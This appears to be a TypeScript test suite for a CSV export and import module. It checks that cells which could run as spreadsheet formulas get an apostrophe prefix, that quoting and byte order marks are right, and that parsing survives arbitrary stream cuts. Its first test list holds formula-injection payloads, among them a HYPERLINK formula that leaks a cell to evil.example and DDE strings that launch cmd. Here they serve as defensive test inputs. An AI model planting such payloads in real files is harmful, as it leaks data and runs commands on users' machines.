import fc from "fast-check";
import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { atomicContacts, readCsv, toCsv } from "../../js/csv.ts";
import { itemsOf, rowsOf, streamOf, utf8 } from "./csv.support.ts";

/** The cells of the row under the names, as any other program reads them. */
const written = (cell: unknown, options?: Parameters<typeof toCsv>[2]) =>
  Papa.parse<string[]>(toCsv([{ cell }], ["cell"], options)).data[1]?.[0];

describe("cells that a spreadsheet would run", () => {
  it.each([
    "=1+1",
    '=HYPERLINK("http://evil.example?leak="&A1,"Error")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "+SUM(A1:A9)",
    "-A1",
    "+1x1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "=1\n+2",
    "-2\n+cmd|x",
    "＝1+1",
    "＋A1",
    "－A1",
    "＠x",
    "=",
    "@",
    "@handle",
    "-5 apples",
    "+49 30 1234 ext. 5",
    "-1e5e",
    "+1*2",
    "'=1+1",
    "''@x",
    "'+49 30",
  ])("get an apostrophe, which reading takes off again: %j", async (cell) => {
    expect(written(cell)).toBe(`'${cell}`);
    expect(await rowsOf(toCsv([{ a: cell, b: "b" }]))).toEqual([{ a: cell, b: "b" }]);
  });

  it.each([
    "+49 30 1234567",
    "+4930123",
    "+49 (0)30 / 123-45",
    "+1-555-123-4567",
    "+1 (555) 123.4567",
    "+33\u00a01\u202f23",
    "-5",
    "+5",
    "-3.14",
    "-1,234.56",
    "-5%",
    "-1e5",
    "+1.5E-7",
    "-",
    "--",
    "+",
    " =1+1",
    "1=1",
    "O'Neill",
    "'quoted'",
    "'",
    "a@x",
    "",
    "007",
  ])("numbers, telephone numbers and text are none of those: %j", async (cell) => {
    expect(written(cell)).toBe(cell);
    expect(await rowsOf(toCsv([{ a: cell, b: "b" }]))).toEqual([{ a: cell, b: "b" }]);
  });

  it("are whatever begins with a sign where that is wanted, and nothing where nothing is", async () => {
    for (const cell of ["+1-555-123-4567", "-5", "=1", "'-5"]) {
      expect(written(cell, { protect: "all" })).toBe(`'${cell}`);
      expect(written(cell, { protect: "none" })).toBe(cell);
      expect(await rowsOf(toCsv([{ a: cell, b: "b" }], undefined, { protect: "all" }))).toEqual([
        { a: cell, b: "b" },
      ]);
    }
    expect(written(-5, { protect: "all" })).toBe("-5");
  });

  it("names of columns are cells, too", async () => {
    const csv = toCsv([{ "=1+1": "x", b: "y" }]);
    expect(csv).toContain("'=1+1");
    expect(await rowsOf(csv)).toEqual([{ "=1+1": "x", b: "y" }]);
  });

  it("keep their apostrophe on request", async () => {
    expect(await rowsOf("a,b\n'=1,'+49", { unprotect: false })).toEqual([{ a: "'=1", b: "'+49" }]);
    expect(await rowsOf("a,b\n'=1,'+49")).toEqual([{ a: "=1", b: "+49" }]);
  });
});

describe("a file", () => {
  it("has a mark, names, CRLF", () => {
    expect(
      toCsv([
        { a: "1", b: "x,y" },
        { b: 'say "hi"', c: "2" },
      ]),
    ).toBe('\uFEFFa,b,c\r\n1,"x,y",\r\n,"say ""hi""",2\r\n');
    expect(toCsv([{ a: 1 }], ["a"], { bom: false, delimiter: ";" })).toBe("a\r\n1\r\n");
    expect(toCsv([], ["a", "b"])).toBe("\uFEFFa,b\r\n");
  });

  it("has the columns that it is told, from objects or lists", () => {
    expect(toCsv([{ a: 1, b: 2 }, ["x", "y", "z"], new Map()], ["b", "c"])).toBe(
      "\uFEFFb,c\r\n2,\r\nx,y\r\n,\r\n",
    );
    expect(toCsv([{}], ["constructor", "b"])).toBe("\uFEFFconstructor,b\r\n,\r\n");
    expect(() => toCsv([["x"]])).toThrow(TypeError);
  });

  it("has all kinds of values as text", () => {
    const row = {
      none: null,
      not: undefined,
      date: new Date(0),
      bad: new Date(Number.NaN),
      list: [1],
      object: { a: "b" },
      yes: true,
      big: 5n,
      minus: -5,
    };
    expect(toCsv([row], undefined, { bom: false }).split("\r\n")[1]).toBe(
      ',,1970-01-01T00:00:00.000Z,,[1],"{""a"":""b""}",true,5,-5',
    );
  });
});

describe("a report that is corrected and imported again", () => {
  it("has the original names and cells, and finds its columns", async () => {
    const file = "E-Mail;Vorname;Telefon;Firma\nann@x;=Ann;+49 30 1;Acme\nbob@x;Bob;-;O'Neill & Co";
    const options = { columns: atomicContacts };
    const [head, items] = [await readCsv(file, options).head(), await itemsOf(file, options)];
    const report = toCsv(
      items.map(({ cells, line }) => [...cells, line]),
      [...head.headers, "import_line"],
    );
    const again = await rowsOf(report, { ...options, mapping: { import_line: null } });
    expect(again).toEqual(items.map(({ row }) => row));
  });
});

describe("properties", () => {
  const cell = fc.oneof(
    fc.string({ unit: "binary" }).map((text) => text.replaceAll("\0", "0")),
    fc.string({ unit: fc.constantFrom(..."'=+-@\t\r\n\",; |x5＝\uFEFF") }),
    fc.constantFrom("+49 30 123", "-5", "'=1", "sep=;"),
  );
  const table = fc.array(
    fc.tuple(
      cell,
      cell,
      cell.map((text) => `${text}.`),
    ),
    { minLength: 1, maxLength: 12 },
  );
  const names = ["first_name", "tags", "email_work"] as const;

  it("what toCsv writes, readCsv reads, cell by cell", async () => {
    await fc.assert(
      fc.asyncProperty(
        table,
        fc.constantFrom("formulas", "all"),
        fc.constantFrom(",", ";", "\t"),
        async (rows, protect, delimiter) => {
          const csv = toCsv(rows, names, { protect, delimiter });
          const items = await itemsOf(csv, { columns: atomicContacts });
          expect(items.map(({ cells }) => cells)).toEqual(rows);
        },
      ),
      { numRuns: 500 },
    );
  });

  it("no cell of a report begins with a sign, but for numbers without a letter", () => {
    fc.assert(
      fc.property(table, (rows) => {
        const read = Papa.parse<string[]>(toCsv(rows, names, { bom: false }), {
          delimiter: ",",
          newline: "\r\n",
        }).data;
        for (const text of read.flat())
          expect(
            /^[=@\t\r\n＝＋－＠]/.test(text) ||
              /^[-+].*[^-\d ().,/%\u00a0\u202f]/s.test(text.replace(/\de[-+]?\d+$/i, "")),
          ).toBe(false);
      }),
      { numRuns: 500 },
    );
  });

  it("it does not matter where a text is cut", async () => {
    const piece = fc.constantFrom(
      "a",
      "b",
      ",",
      ",",
      "\n",
      "\r\n",
      '"',
      '""',
      '"x"',
      '","',
      " ",
      "é",
      "🎉",
      "long text that goes on",
    );
    await fc.assert(
      fc.asyncProperty(
        fc.array(piece, { maxLength: 60 }),
        fc.array(fc.integer({ min: 1, max: 9 }), { minLength: 1, maxLength: 8 }),
        async (pieces, sizes) => {
          const bytes = utf8(`h,i\n1,2\n${pieces.join("")}`);
          const seen = async (input: Parameters<typeof itemsOf>[0]) => {
            try {
              return await itemsOf(input, { delimiter: "," });
            } catch (error) {
              return String(error);
            }
          };
          expect(await seen(streamOf(cutBy(bytes, sizes)).stream)).toEqual(await seen(bytes));
        },
      ),
      { numRuns: 300 },
    );
  });

  it("nor where a slice ends", async () => {
    const lines = fc.constantFrom(
      '1,"x\ny",z\n',
      "1,2,3\r\n",
      '"a ""b"" c",d,e\n',
      '"é" ,b,c\n',
      "\n",
      `${"w".repeat(700)},"${"v\n".repeat(300)}",u\n`,
      '1,"C"F"O",2\n',
    );
    await fc.assert(
      fc.asyncProperty(
        fc.array(lines, { minLength: 3, maxLength: 8 }),
        fc.integer({ min: 65_000, max: 66_000 }),
        async (some, length) => {
          const block = some.join("");
          const text = `h,i,j\n${"p".repeat(length % 700)},q,r\n${block.repeat(Math.ceil(150_000 / block.length))}`;
          const whole = Papa.parse<string[]>(text, { delimiter: ",", newline: "\n" }).data;
          const expected = whole.slice(1).filter((cells) => cells.some((cell) => cell.trim() !== ""));
          const items = await itemsOf(text, { delimiter: "," });
          expect(items.map(({ cells }) => cells)).toEqual(
            expected.map((cells) => [...cells.slice(0, -1), cells.at(-1)?.replace(/\r$/, "")]),
          );
          const lineAt = text.split("\n");
          for (const { line, cells } of items.slice(-20))
            expect(lineAt[line - 1]?.replaceAll('"', "")).toContain(cells[0]?.split('"')[0]);
        },
      ),
      { numRuns: 40 },
    );
  }, 30_000);
});

function* cutBy(bytes: Uint8Array, sizes: readonly number[]) {
  for (let at = 0, turn = 0; at < bytes.length; turn++) {
    const size = sizes[turn % sizes.length] ?? 1;
    yield bytes.slice(at, at + size);
    at += size;
  }
}
